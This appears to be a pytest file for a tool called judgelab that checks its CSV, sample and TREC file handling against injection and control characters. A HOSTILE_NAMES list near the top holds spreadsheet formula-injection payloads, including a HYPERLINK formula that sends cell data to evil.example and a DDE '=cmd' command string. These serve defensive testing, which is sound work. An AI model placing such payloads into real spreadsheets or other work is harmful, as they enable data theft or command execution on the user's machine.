"""What judgelab writes for other programs (CSV tables, sample files, TREC qrels) and the TREC run
files it reads: hostile names and ids neither run as spreadsheet formulas nor break the file, and a
bad line is refused with its file and line (exit 2), nothing written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from judgelab.csv_cells import read_cell, safe_csv
from judgelab.data import Item, load_items, save_items
from judgelab.errors import DataError
from judgelab.evaluate import read_sample, write_sample
from judgelab.metrics import read_runs
from tests.e2e.cli import run_main_in_process, write_jsonl

# what Excel, LibreOffice and Google Sheets read as a formula (OWASP, "CSV Injection")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "@SUM(A1)", "-2+3",
                 "\t=cmd|' /C calc'!A0", "\r=1", "'=already quoted", "plain"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), (cell, row)


# ---- 19: formulas in exported tables ---------------------------------------------------------------------
@pytest.fixture()
def hostile_systems(tmp_path) -> tuple[Path, Path]:
    items, judgments = [], []
    for s, name in enumerate(HOSTILE_NAMES):
        for k in range(6):
            items.append({"id": f"s{s}-{k}", "output": f"text {k}", "system_id": name, "scale": [1, 5],
                          "scores": {"coherence": 1 + (s + k) % 5}})
            judgments.append({"item_id": f"s{s}-{k}", "score": 1 + (2 * s + k) % 5})
    return write_jsonl(tmp_path / "items.jsonl", items), write_jsonl(tmp_path / "judgments.jsonl", judgments)


def test_evaluate_tables_quote_formula_names_and_keep_numbers(hostile_systems, tmp_path, capsys):
    """systems.csv and pairs.csv: no cell a spreadsheet would run; each name reads back whole; numbers
    (negative differences too) stay numbers."""
    items, judgments = hostile_systems
    code, err = run_main_in_process(capsys, "evaluate", "--data", items, "--judgments", judgments, "--aspect",
                                    "coherence", "--bootstrap", "50", "--out", tmp_path / "report")
    assert code == 0, err
    systems, pairs = _cells(tmp_path / "report" / "systems.csv"), _cells(tmp_path / "report" / "pairs.csv")
    _no_formula(systems)
    _no_formula(pairs)
    assert {read_cell(row[0]) for row in systems[1:]} == set(HOSTILE_NAMES)
    assert {read_cell(cell) for row in pairs[1:] for cell in row[1:3]} == set(HOSTILE_NAMES)
    differences = [float(row[pairs[0].index("difference")]) for row in pairs[1:]]
    assert min(differences) < 0  # a negative number is written as one, unquoted
    assert all(_is_number(row[systems[0].index("estimate")]) for row in systems[1:])


def test_a_table_s_labels_and_column_names_are_quoted_too():
    """``safe_csv`` (systems.csv, pairs.csv, similarity-weights --csv) covers row labels and headers."""
    frame = pd.DataFrame({"=feature": [-0.5, 1.0], "name": ["@x", "ok"]}, index=["+class", "2"])
    rows = list(csv.reader(io.StringIO(safe_csv(frame), newline="")))
    _no_formula(rows)
    assert rows == [["", "'=feature", "name"], ["'+class", "-0.5", "'@x"], ["2", "1.0", "ok"]]


_TEXT = st.text(alphabet="=+-@'\t\r\n ax\"", min_size=1, max_size=12).filter(lambda s: s.strip())


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(_TEXT, min_size=1, max_size=5, unique=True), suffix=st.sampled_from([".csv", ".tsv"]))
def test_data_saved_as_csv_is_safe_in_a_spreadsheet_and_reads_back_exactly(tmp_path, texts, suffix):
    items = [Item(id=text, output=text, system_id=text, scores={"coherence": -0.5}) for text in texts]
    path = save_items(items, tmp_path / f"items{suffix}")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""),
                           delimiter="\t" if suffix == ".tsv" else ","))
    _no_formula(rows)
    assert all(row[rows[0].index("scores.coherence")] == "-0.5" for row in rows[1:])
    assert [(i.id, i.output, i.system_id, i.scores) for i in load_items(path)] == \
        [(i.id, i.output, i.system_id, i.scores) for i in items]


# ---- 20: the sample file, qrels and TREC run files -------------------------------------------------------
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ids=st.lists(st.text(min_size=1, max_size=10), min_size=1, max_size=6, unique=True))
def test_a_sample_file_reads_back_every_id_it_wrote(tmp_path, ids):
    path = write_sample(tmp_path / "ids.txt", ids, [0.5] * len(ids), {"method": "stratified"})
    assert read_sample(path).ids == tuple(ids)


def test_sample_then_evaluate_with_ids_holding_tabs_and_line_breaks(tmp_path, capsys):
    """The ids ``sample`` writes are the ids ``evaluate --human-ids`` reads (tab, LF, CR, U+2028, spaces,
    a leading # or quote used to break the file or become other ids)."""
    odd = ["a\tb", "line\nbreak", "carriage\rreturn", "sep\u2028arator", " padded ", "#hash", '"quoted"', "plain"]
    rows = [{"id": f"{name}-{k}", "output": f"text {k}", "system_id": f"sys{k % 2}", "scale": [1, 5],
             "scores": {"coherence": 1 + k % 5}} for name in odd for k in range(2)]
    items = write_jsonl(tmp_path / "items.jsonl", rows)
    judgments = write_jsonl(tmp_path / "judgments.jsonl", [{"item_id": r["id"], "score": 3} for r in rows])
    ids = tmp_path / "ids.txt"
    code, err = run_main_in_process(capsys, "sample", "--data", items, "--budget", len(rows), "--out", ids)
    assert code == 0, err
    assert set(read_sample(ids).ids) == {r["id"] for r in rows}
    code, err = run_main_in_process(capsys, "evaluate", "--data", items, "--judgments", judgments, "--aspect",
                                    "coherence", "--human-ids", ids, "--bootstrap", "50", "--json")
    assert code == 0, err


def _relevance(tmp_path: Path, pairs: list[tuple[str, str, int]]) -> tuple[Path, Path]:
    items = write_jsonl(tmp_path / "rel.jsonl", [{"id": f"i{k}", "qid": q, "docid": d, "query": "q", "passage": "p"}
                                                 for k, (q, d, _) in enumerate(pairs)])
    judgments = write_jsonl(tmp_path / "judged.jsonl", [{"item_id": f"i{k}", "score": label, "label": label}
                                                        for k, (_, _, label) in enumerate(pairs)])
    return items, judgments


@pytest.mark.parametrize(("pairs", "message"), [
    ([("q\x001", "d1", 1), ("q2", "d2", 0)], "control character"),
    ([("q1", "d\x1b[31m", 1)], "control character"),
    ([("q1", "d1", 2), ("q1", "d1", 0)], "labelled both 2 and 0"),
], ids=["nul", "esc", "conflict"])
def test_qrels_refuse_control_characters_and_conflicting_labels(tmp_path, capsys, pairs, message):
    items, judgments = _relevance(tmp_path, pairs)
    out = tmp_path / "qrels.txt"
    code, err = run_main_in_process(capsys, "qrels", judgments, "--data", items, "--out", out)
    assert code == 2 and message in err and len(err.strip().splitlines()) == 1, err
    assert not out.exists()


def test_qrels_write_a_pair_labelled_twice_alike_once(tmp_path, capsys):
    items, judgments = _relevance(tmp_path, [("q1", "d1", 2), ("q1", "d1", 2), ("q1", "d2", 0)])
    code, err = run_main_in_process(capsys, "qrels", judgments, "--data", items, "--out", tmp_path / "qrels.txt")
    assert code == 0, err
    assert (tmp_path / "qrels.txt").read_text() == "q1 0 d1 2\nq1 0 d2 0\n"


BAD_RUN_LINES = {  # the line 2 of a run file -> what the error says
    "rank": ("q1 Q0 d2 x 0.5 tag", "rank 'x'"), "nan": ("q1 Q0 d2 2 NaN tag", "score 'NaN'"),
    "overflow": ("q1 Q0 d2 2 1e999 tag", "score '1e999'"), "duplicate": ("q1 Q0 d1 2 0.5 tag", "listed twice"),
    "columns": ("q1 Q0 d2 2 0.5", "expected 6 columns"), "text-score": ("q1 Q0 d2 2 high tag", "score 'high'"),
    # issue 50, item 20: a NUL reached the C scorer (ir_measures), which read 'd2\0x' as 'd2'
    "nul-docid": ("q1 Q0 d2\x00x 2 0.5 tag", "docid 'd2\\x00x' holds a control character"),
    "nul-qid": ("q1\x00 Q0 d2 2 0.5 tag", "qid 'q1\\x00' holds a control character"),
}


@pytest.mark.parametrize("case", BAD_RUN_LINES)
def test_a_bad_run_line_is_refused_with_its_file_and_line(tmp_path, capsys, case):
    line, message = BAD_RUN_LINES[case]
    runs = tmp_path / "runs"
    runs.mkdir()
    (runs / "good.run").write_text("q1 Q0 d1 1 1.0 good\nq1 Q0 d2 2 0.5 good\n")
    (runs / "bad.run").write_text(f"q1 Q0 d1 1 1.0 bad\n{line}\n")
    with pytest.raises(DataError) as failure:
        read_runs(runs)
    assert f"{runs / 'bad.run'}:2:" in str(failure.value) and message in str(failure.value)
    items, judgments = _relevance(tmp_path, [("q1", "d1", 2), ("q1", "d2", 0)])
    human = json.loads(items.read_text().splitlines()[0])  # meta needs human labels: give both items one
    write_jsonl(items, [{**human, "label": 2}, {**human, "id": "i1", "docid": "d2", "label": 0}])
    code, err = run_main_in_process(capsys, "meta", "--data", items, "--judgments", judgments, "--runs", runs,
                                    "--bootstrap", "0")
    assert code == 2 and f"{runs / 'bad.run'}:2:" in err and len(err.strip().splitlines()) == 1, err


@pytest.mark.parametrize("line", ["q1 0 d2\x00x 1", "q\x001 0 d2 1"], ids=["docid", "qid"])
def test_a_qrels_file_with_a_nul_in_an_id_is_refused_with_its_file_and_line(tmp_path, line):
    """Issue 50, item 20: a NUL in an id of a qrels file went to the C scorer, which cut the id at it."""
    from judgelab.data.trec import read_qrels

    qrels = tmp_path / "qrels.txt"
    qrels.write_text(f"q1 0 d1 2\n{line}\n")
    with pytest.raises(DataError, match=rf"{qrels}:2: field '(docid|qid)': .* holds a control character"):
        read_qrels(qrels)


def test_an_item_with_a_nul_in_its_docid_is_refused_with_its_file_and_line(tmp_path):
    items = write_jsonl(tmp_path / "rel.jsonl", [{"id": "i0", "qid": "q1", "docid": "d1", "query": "q", "passage": "p"},
                                                 {"id": "i1", "qid": "q1", "docid": "d2\x00x", "query": "q",
                                                  "passage": "p"}])
    with pytest.raises(DataError, match=rf"{items}:2: field 'docid': 'd2\\x00x' holds a control character"):
        load_items(items)
